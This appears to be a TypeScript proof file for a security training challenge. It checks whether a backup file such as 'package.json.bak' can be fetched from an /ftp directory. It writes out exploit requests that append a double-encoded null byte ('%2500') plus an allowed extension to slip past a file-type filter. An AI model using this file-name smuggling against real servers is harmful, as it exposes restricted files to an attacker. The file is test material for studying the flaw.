import { prove } from '@fruit/challenge-kit/proof'
import { fetchPoisoned, nearMissesOf, spellingsOf } from '../../weaknesses/poisoned-name/fetch-poisoned.ts'
import { challenge } from './challenge.ts'

const NAME = 'package.json.bak'

export const proof = prove(challenge, {
  exploit: (attacker) => fetchPoisoned(attacker, NAME),
  spellings: spellingsOf(NAME),
  nearMisses: {
    ...nearMissesOf(NAME),
    'the lock file beside it': (attacker) => attacker.get('/ftp/package-lock.json.bak%2500.md'),
    'the manifest that is no backup': (attacker) => attacker.get('/ftp/package.json%2500.md'),
  },
  bypasses: {
    'refuse-the-reported-name': (attacker) => attacker.get(`/ftp/${NAME}%2500.pdf`),
    'cut-at-the-last-zero': (attacker) => attacker.get(`/ftp/${NAME}%2500.pdf`),
  },
})
